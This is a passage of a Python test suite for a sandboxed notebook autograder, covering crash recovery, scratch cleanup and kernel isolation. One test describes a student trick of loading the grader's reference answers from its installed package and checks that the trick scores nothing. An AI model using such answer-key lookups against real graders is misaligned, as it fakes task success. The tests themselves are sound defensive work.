    assert copy["grader"].startswith(str(python.parent.parent)), "the probe ran the installed copy"
    assert any(h.endswith("site-packages/grader") for h in copy["hidden"]), copy["hidden"]
    view = _printed(proc.stdout, "VIEW")
    assert view["grader"].startswith("/opt/rnns-kit/") and view["reference"] is False
    assert view["copies_of_the_reference"] == []
    assert not view["distribution"] or not any("reference" in f for f in view["distribution"])


@needs_bwrap
def test_the_issues_sys_prefix_attack_on_a_pip_installed_grader(tmp_path, installed):
    """The issue's notebook, graded by `python -m grader autograde` of a grader installed
    with `pip install .`: its answers that only load grader/reference/rnn_by_hand.py from
    the Python installation earn nothing (it scored 10/11)."""
    python = installed("pip-install")
    course = _course(tmp_path / "course", CH1)
    _submit(course, "hunter", round3.reference_hunter_ch1(), CH1)
    ours = next(p for p in sys.path if p.endswith("site-packages") and Path(p, "numpy").is_dir())
    config = course.root / "nbgrader_config.py"      # the kernel needs the packages it links to
    config.write_text(config.read_text() + f"c.Sandbox.extra_ro_binds = [{ours!r}]\n")
    env = dict(nbgrader_env(), PATH=f"{python.parent}:{Path(sys.executable).parent}:{os.environ['PATH']}")
    proc = subprocess.run([str(python), "-m", "grader", "autograde", CH1, "--course", str(course.root),
                           "--no-progress"], capture_output=True, text=True, timeout=900,
                          cwd=course.root, env=env)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert _printed(_outputs_text(course, "hunter", CH1), "REFERENCE-HUNTER") == []
    scores = {k: v.score for k, v in course.scores(CH1, "hunter").items()}
    assert scores["q3-tests"] == scores["q4-tests"] == scores["q6-tests"] == 0
    assert scores["q1-tests"] > 0


# =========================================================================================
# 7. A killed coordinator, and a hidden tests' process killed under a student
# =========================================================================================

@needs_bwrap
def test_a_killed_batch_leaves_no_zero_and_its_rerun_restores_everything(tmp_path):
    course = _course(tmp_path / "course", CH1)
    for student in ("a-first", "b-slow", "c-slow"):
        nb = round3.answered(CH1) if student == "a-first" else round3.slow_start(CH1, 10)
        _submit(course, student, nb, CH1)
    db = course.root / "gradebook.db"
    env = dict(nbgrader_env(), TMPDIR=str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    proc = subprocess.Popen([sys.executable, "-m", "grader", "autograde", CH1, "--course",
                             str(course.root), "--jobs", "2", "--no-progress"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:      # until both slow students are being graded
        states = inflight.markers(course.root, CH1)
        if [s for s, st in states.items() if s.endswith("-slow") and st == "live"] == ["b-slow", "c-slow"] \
                or len([s for s in states if s.endswith("-slow")]) == 2:
            time.sleep(2)
            break
        time.sleep(0.2)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.communicate()
    stale = [p for p in (tmp_path / "tmp" / f"rnns-grader-{os.getuid()}").iterdir()]
    assert stale, "the killed batch left its scratch"
    assert (db.with_name(db.name + ".rnns-wal")).exists()
    with contextlib.closing(sqlite3.connect(db)) as con:    # (closed: an open connection
        assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"   # keeps WAL mode)
    # between the kill and the rerun: no score for the interrupted students, anywhere
    from grader.grading.lms import lms_rows
    from grader.grading.report import INTERRUPTED, read_gradebook
    _, rows = read_gradebook(course.root, CH1)
    by = {r.student: r for r in rows}
    for student in ("b-slow", "c-slow"):
        assert by[student].status == INTERRUPTED and by[student].pending and not by[student].scores
        assert "regrade pending" in by[student].note
    lms = {r.student: r for r in lms_rows(course.root, CH1)[1]}
    assert lms["b-slow"].grade is None and lms["c-slow"].grade is None
    # the rerun: graded, journal mode back, the killed batch's scratch gone
    rerun = subprocess.run([sys.executable, "-m", "grader", "autograde", CH1, "--course",
                            str(course.root), "--no-progress", "--jobs", "2"], env=env, capture_output=True,
                           text=True, timeout=600)
    assert rerun.returncode == 0, rerun.stdout[-3000:] + rerun.stderr[-2000:]
    assert course.total(CH1, "b-slow") == course.total(CH1, "c-slow") == (11, 11)
    with contextlib.closing(sqlite3.connect(db)) as con:
        assert con.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert not db.with_name(db.name + ".rnns-wal").exists()
    assert not any(p.exists() for p in stale)
    assert inflight.markers(course.root, CH1) == {}
    _, rows = read_gradebook(course.root, CH1)
    assert {r.student: r.status for r in rows} == {s: "graded" for s in ("a-first", "b-slow", "c-slow")}


@needs_bwrap
def test_a_hidden_tests_process_killed_under_a_student_costs_nothing(tmp_path):
    """SIGKILL to the process running a student's hidden tests: the grader's failure, said
    loudly (the table's GRADER ERRORS), and the student graded again, with full marks."""
    course = _course(tmp_path / "course", CH1)
    _submit(course, "victim", round3.slow_hidden_call(3), CH1)
    server = Server.get()
    server.start()
    killed: list = []
    killer = threading.Thread(target=lambda: killed.append(_kill_first_child(server, 120)))
    killer.start()
    batch = autograde(course.root, CH1, jobs=1, progress=False, canary=False)
    killer.join()
    assert killed and killed[0] is not None
    (victim,) = batch.students
    assert victim.status == "graded" and victim.score == 11, format_table(batch)
    assert victim.attempts == 2 and len(victim.grader_errors) == 1
    assert "the hidden tests' process" in victim.grader_errors[0]
    assert "GRADER ERRORS" in format_table(batch)


# =========================================================================================
# 7. Scratch and markers, on their own
# =========================================================================================

def test_the_sweep_removes_only_dead_scratch_and_follows_nothing(tmp_path):
    base = scratch.base()
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious").write_text("keep me")
    dead = Path(subprocess.run([sys.executable, "-c",
                                "from grader.grading.scratch import Scratch; s = Scratch('test-dead'); "
                                "open(s.path / 'x', 'w').write('x'); print(s.path)"],
                               capture_output=True, text=True, check=True).stdout.strip())
    live = scratch.Scratch("test-live")
    link = base / "test-link"
    link.symlink_to(victim)
    plain = base / "test-file"
    plain.write_text("not a folder")
    try:
        removed = scratch.sweep()
        assert dead.name in removed and not dead.exists()
        assert live.path.is_dir() and live.path.name not in removed
        assert (victim / "precious").read_text() == "keep me" and link.is_symlink()
        assert plain.exists()
    finally:
        live.close()
        link.unlink()
        plain.unlink()


def test_markers_tell_a_running_batch_from_a_killed_one(tmp_path):
    code = ("import sys, time; from grader.grading.inflight import Marker; "
            "m = Marker(sys.argv[1], 'a1', 'li.hua'); print('held', flush=True); time.sleep(60)")
    proc = subprocess.Popen([sys.executable, "-c", code, str(tmp_path)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "held"
    assert inflight.markers(tmp_path, "a1") == {"li.hua": "live"}
    proc.kill()
    proc.wait()
    assert inflight.markers(tmp_path, "a1") == {"li.hua": "interrupted"}
    assert inflight.clear_interrupted(tmp_path, "a1", ["li.hua"]) == ["li.hua"]
    assert inflight.markers(tmp_path, "a1") == {}


# =========================================================================================
# 3 and 5, not as root: bubblewrap then runs unprivileged, in a user namespace
# =========================================================================================

UNPRIVILEGED = r'''
import asyncio, json, os, sys, tempfile
from pathlib import Path
from grader.grading.sandbox import Sandbox, SandboxUnavailable, launch_kernel, prepare_kit
box = Sandbox(extra_ro_binds=[sys.argv[1]])
try:
    box.check_available()
except SandboxUnavailable as exc:
    print("UNAVAILABLE " + json.dumps(str(exc)))
    sys.exit(0)
scratch = Path(tempfile.mkdtemp())
kit = prepare_kit(scratch)
PROBE = sys.argv[2]

async def main():
    k = await launch_kernel(box, scratch=scratch, kit_dir=kit, slot=0, number=1, notebook_timeout=60)
    kc = k.km.client()
    kc.start_channels()
    await kc.wait_for_ready(timeout=120)
    kc.execute(PROBE)
    while True:
        m = await kc.get_iopub_msg(timeout=60)
        if m["msg_type"] == "stream":
            print(m["content"]["text"].strip())
            break
    kc.stop_channels()
    await k.km.shutdown_kernel(now=True)
    k.log.close()
    print("GRADER " + json.dumps({"uid": os.getuid(), "ip": k.km.ip}))

asyncio.run(main())
'''
INSIDE = ("import json, os\n"
          "status = open('/proc/self/status').read()\n"
          + WRITABLE_MOUNTS.replace("print(\"WRITABLE \" + json.dumps(out))",
                                    "print('KERNEL ' + json.dumps({'uid': os.getuid(), 'seccomp': "
                                    "status.split('Seccomp:')[1].split()[0], 'writable': out}))"))


@needs_bwrap
@needs_root
def test_an_unprivileged_grader_reaches_its_kernel_and_nothing_else_is_writable():
    """As a user without privileges (nobody): the kernel's sockets in its own tmpfs are
    reached through /proc/<pid>/root, the keyring filter holds, and the sandbox's root and
    /dev -- which bubblewrap makes the user's own there -- are read-only."""
    python = Path(f"/usr/bin/python{sys.version_info[0]}.{sys.version_info[1]}")
    ours = next(p for p in sys.path if p.endswith("site-packages") and Path(p, "numpy").is_dir())
    readable = all(os.stat(p).st_mode & 0o005 == 0o005 for p in [*Path(ours).parents, *ROOT.parents]
                   if str(p) != "/")
    if not python.exists() or not readable:
        pytest.skip("needs a system Python of this version and a checkout other users can read")
    import tempfile
    folder = Path(tempfile.mkdtemp(prefix="rnns-unprivileged-"))
    try:
        os.chmod(folder, 0o755)
        subprocess.run([str(python), "-m", "venv", "--without-pip", str(folder / "venv")], check=True)
        site_packages = next((folder / "venv" / "lib").glob("python3*/site-packages"))
        (site_packages / "_deps.pth").write_text(ours + "\n")
        (site_packages / "_grader.pth").write_text(str(ROOT) + "\n")   # hidden from the kernel
        subprocess.run(["chmod", "-R", "a+rX", str(folder)], check=True)
        proc = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env",
                               "HOME=/tmp", f"PATH={folder}/venv/bin:/usr/bin:/bin",
                               str(folder / "venv" / "bin" / "python"), "-c", UNPRIVILEGED, ours, INSIDE],
                              capture_output=True, text=True, timeout=300, cwd="/tmp")
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
    if "UNAVAILABLE " in proc.stdout:
        pytest.skip(f"no unprivileged bubblewrap here: {_printed(proc.stdout, 'UNAVAILABLE')}")
    grader = _printed(proc.stdout, "GRADER")
    kernel = _printed(proc.stdout, "KERNEL")
    assert grader["uid"] == 65534 and grader["ip"].startswith("/proc/")
    assert kernel["seccomp"] == "2"
    assert sorted(kernel["writable"]) == ["/dev/shm", "/tmp"], kernel["writable"]
